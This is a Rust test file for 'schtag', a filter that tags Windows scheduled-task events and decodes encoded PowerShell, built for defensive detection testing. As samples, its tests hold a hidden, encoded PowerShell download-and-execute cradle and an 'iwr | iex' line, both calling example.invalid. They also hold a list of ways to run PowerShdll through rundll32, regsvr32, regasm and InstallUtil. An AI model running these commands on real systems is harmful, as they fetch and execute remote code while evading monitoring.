//! Records through the built module: nothing but our own member is ever added, and what is no task event comes
//! out byte for byte.

use schtag_host::run::wasmtime::{Options, Tagger, Timestamp};
use schtag_tests::samples::{Sample, Shape};
use schtag_tests::{base64, filter};
use serde_json::Value;

const AT: Timestamp = Timestamp { seconds: 1_772_000_000, nanoseconds: 0 };

fn tagger() -> Tagger {
    Tagger::new(filter::module().unwrap(), Options::default()).unwrap()
}

/// The record that comes out, and its tag.
fn tag(tagger: &mut Tagger, record: &str) -> (Value, Value) {
    let tagged = tagger.tag_record(b"win.security", AT, record.as_bytes());
    assert!(tagged.fault.is_none(), "{:?} on {record}", tagged.fault);
    let out: Value = serde_json::from_slice(&tagged.record).unwrap();
    let tag = out.get("schtag").cloned().unwrap_or(Value::Null);
    (out, tag)
}

/// Base64 of UTF-16LE, as PowerShell wants it.
fn encoded(script: &str) -> String {
    base64::encode(&script.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

#[test]
fn a_powershell_task_is_tagged_in_every_shape_and_for_every_event() {
    let mut tagger = tagger();
    for shape in Shape::ALL {
        for (event_id, action) in
            [(4698, "created"), (4700, "enabled"), (4701, "disabled"), (4702, "updated")]
        {
            let record =
                Sample::new(event_id, "powershell.exe", "-NoProfile -Command Get-Date").record(shape);
            let (out, tag) = tag(&mut tagger, &record);
            assert_eq!(tag["verdict"], "alert", "{shape:?} {event_id}: {out}");
            assert_eq!(tag["action"], action, "{shape:?}");
            assert_eq!(tag["host"]["name"], "WS17.corp.example", "{shape:?}");
            assert_eq!(tag["actor"]["user"], r"CORP\alice", "{shape:?}");
            assert_eq!(tag["task"]["name"], r"\Nightly", "{shape:?}");
        }
    }
}

#[test]
fn exactly_one_member_is_added_behind_the_others() {
    let mut tagger = tagger();
    for shape in Shape::ALL {
        let record = Sample::new(4698, "powershell.exe", "-NoProfile").record(shape);
        let tagged = tagger.tag_record(b"t", AT, record.as_bytes());
        let before = record.strip_suffix('}').unwrap();
        let added = std::str::from_utf8(&tagged.record).unwrap().strip_prefix(before).unwrap();
        assert!(
            added.starts_with(r#","schtag":{"schema":"1","#) && added.ends_with("}}"),
            "{shape:?}: {added}"
        );
    }
}

#[test]
fn an_encoded_command_is_decoded_and_shown() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')";
    let mut tagger = tagger();
    for shape in Shape::ALL {
        let arguments = format!("-w hidden -nop -enc {}", encoded(script));
        let (_, tag) = tag(&mut tagger, &Sample::new(4698, "powershell.exe", &arguments).record(shape));
        let decoded = tag["task"]["decoded"].as_array().unwrap_or_else(|| panic!("{shape:?}: {tag}"));
        assert!(decoded.iter().any(|text| text == script), "{shape:?}: {tag}");
        assert!(["high", "critical"].contains(&tag["severity"].as_str().unwrap()), "{shape:?}: {tag}");
    }
}

/// The forms of PowerShdll, by command and arguments: its README's, and those in the wild.
#[test]
fn powershdll_is_found_in_every_form() {
    let forms: &[(&str, &str)] = &[
        ("rundll32", "PowerShdll,main . { iwr -useb http://example.invalid/a } ^| iex;"),
        ("rundll32.exe", "PowerShdll.dll,main [scriptblock]::Create('x')"),
        (r"C:\Windows\System32\rundll32.exe", r#""C:\Temp\PowerShdll.dll" , main -f C:\Temp\x.ps1"#),
        ("RUNDLL32", "powershdll.DLL,main -w"),
        ("rundll32 PowerShdll.dll,main -i", ""),
        ("regsvcs.exe", "PowerShdll.dll"),
        (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\regsvcs.exe", "PowerShdll"),
        ("regasm.exe", "/U PowerShdll.dll"),
        (r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegAsm.exe", r"/U C:\x\PowerShdll.dll"),
        ("regsvr32", "/s  /u PowerShdll.dll"),
        ("regsvr32.exe", "/u /s PowerShdll.dll"),
        ("regsvr32", "/s PowerShdll.dll"),
        (
            r"C:\Windows\Microsoft.NET\Framework64\v4.0.3031964\InstallUtil.exe",
            "/logfile= /LogToConsole=false /U PowerShdll.dll",
        ),
        ("InstallUtil", "/U /LogToConsole=false /logfile= PowerShdll.dll"),
        (r"C:\Tools\PowerShdll.exe", "-f x.ps1"),
        ("PowerShdll.exe", "-i"),
        ("cmd.exe", "/c rundll32 Power^Shdll.dll,main -w"),
    ];
    let mut tagger = tagger();
    for (command, arguments) in forms {
        let (_, tag) = tag(&mut tagger, &Sample::new(4698, command, arguments).record(Shape::Winevtlog));
        assert_eq!(tag["verdict"], "alert", "{command} {arguments}: {tag}");
        let rules = tag["rules"].to_string();
        assert!(rules.contains("PowerShdll"), "{command} {arguments}: {rules}");
    }
}

#[test]
fn a_server_raises_the_severity() {
    let mut tagger = tagger();
    let record = Sample::new(4698, "powershell.exe", "-Command Get-Date").record(Shape::Flat);
    let (_, on_endpoint) = tag(&mut tagger, &record);
    assert_eq!(on_endpoint["severity"], "medium");
    let (_, on_server) = tag(&mut tagger, &record.replacen('{', r#"{"host_role":"server","#, 1));
    assert_eq!((&on_server["severity"], &on_server["host"]["role"]), (&"high".into(), &"server".into()));
}

#[test]
fn a_benign_task_comes_out_byte_for_byte() {
    let mut tagger = tagger();
    for shape in Shape::ALL {
        let record =
            Sample::new(4698, r"%windir%\system32\cleanmgr.exe", "/autoclean /d %systemdrive%").record(shape);
        let tagged = tagger.tag_record(b"t", AT, record.as_bytes());
        assert_eq!(std::str::from_utf8(&tagged.record).unwrap(), record, "{shape:?}");
    }
}

#[test]
fn a_task_without_content_is_unreadable_and_a_deletion_is_not() {
    let mut tagger = tagger();
    for shape in Shape::ALL {
        let empty =
            |event_id| Sample { content: String::new(), ..Sample::new(event_id, "", "") }.record(shape);
        for event_id in [4698, 4702] {
            let (_, tag) = tag(&mut tagger, &empty(event_id));
            assert_eq!(tag["verdict"], "unreadable", "{shape:?} {event_id}: {tag}");
            assert!(tag["notes"].to_string().contains("task content missing"), "{shape:?}: {tag}");
        }
        // Of another task: created and deleted within minutes is a sequence of interest.
        let deleted = empty(4699).replace("Nightly", "Weekly");
        let tagged = tagger.tag_record(b"t", AT, deleted.as_bytes());
        assert_eq!(std::str::from_utf8(&tagged.record).unwrap(), deleted, "{shape:?}");
    }
}

#[test]
fn unrelated_records_come_out_byte_for_byte() {
    let mut tagger = tagger();
    let other_events = Shape::ALL.map(|shape| Sample::new(4624, "powershell.exe", "-enc AAAA").record(shape));
    let others = [
        "{}",
        " { } \n",
        r#"{"log":"an ordinary line with 4698 in it"}"#,
        r#"{"EventID":4698.5}"#,
        r#"{"EventID":"4698","Channel":"Application","TaskName":"x","TaskContent":"<Task/>"}"#,
        r#"{"n":1.0000000000000000001,"big":18446744073709551616,"e":1E400,"s":"\u00e9\/"}"#,
        r#"{"a":1,"a":2}"#,
        "{\"text\":\"żółć 日本語 🦀\",\"nested\":[[{\"x\":null}]]}\r\n",
    ];
    for record in other_events.iter().map(String::as_str).chain(others) {
        for _ in 0..3 {
            let tagged = tagger.tag_record(b"t", AT, record.as_bytes());
            assert!(tagged.fault.is_none());
            assert_eq!(std::str::from_utf8(&tagged.record).unwrap(), record);
        }
    }
}

#[test]
fn a_tag_that_comes_in_is_replaced() {
    let mut tagger = tagger();
    let record = Sample::new(4698, "powershell.exe", "-NoProfile").record(Shape::Winevtlog);
    let once = tagger.tag_record(b"t", AT, record.as_bytes()).record.into_owned();
    let twice = tagger.tag_record(b"t", AT, &once).record.into_owned();
    assert_eq!(String::from_utf8(twice).unwrap(), String::from_utf8(once).unwrap());
    for forged in [r#""schtag":{"verdict":"allowlisted"}"#, r#""\u0073chtag":1"#, r#""schtag":1,"schtag":2"#]
    {
        let record = record.replacen('{', &format!("{{{forged},"), 1);
        let out = tagger.tag_record(b"t", AT, record.as_bytes()).record.into_owned();
        let out = String::from_utf8(out).unwrap();
        let out: Value = serde_json::from_str(&out).unwrap();
        assert_eq!(out["schtag"]["verdict"], "alert");
        let unrelated = format!(r#"{{"EventID":4624,{forged}}}"#);
        let out = tagger.tag_record(b"t", AT, unrelated.as_bytes()).record.into_owned();
        assert_eq!(String::from_utf8(out).unwrap(), r#"{"EventID":4624}"#);
    }
}

#[test]
fn a_record_that_is_all_text_is_known_again_behind_its_tag() {
    let xml: Value =
        serde_json::from_str(&Sample::new(4698, "powershell.exe", "-nop").record(Shape::WinevtlogXml))
            .unwrap();
    let record = serde_json::json!({ "any": xml["System"], "n": 1 }).to_string();
    let mut tagger = tagger();
    let once = tagger.tag_record(b"t", AT, record.as_bytes()).record.into_owned();
    assert!(String::from_utf8_lossy(&once).contains(r#""verdict":"alert""#));
    assert_eq!(tagger.tag_record(b"t", AT, &once).record, once);
}
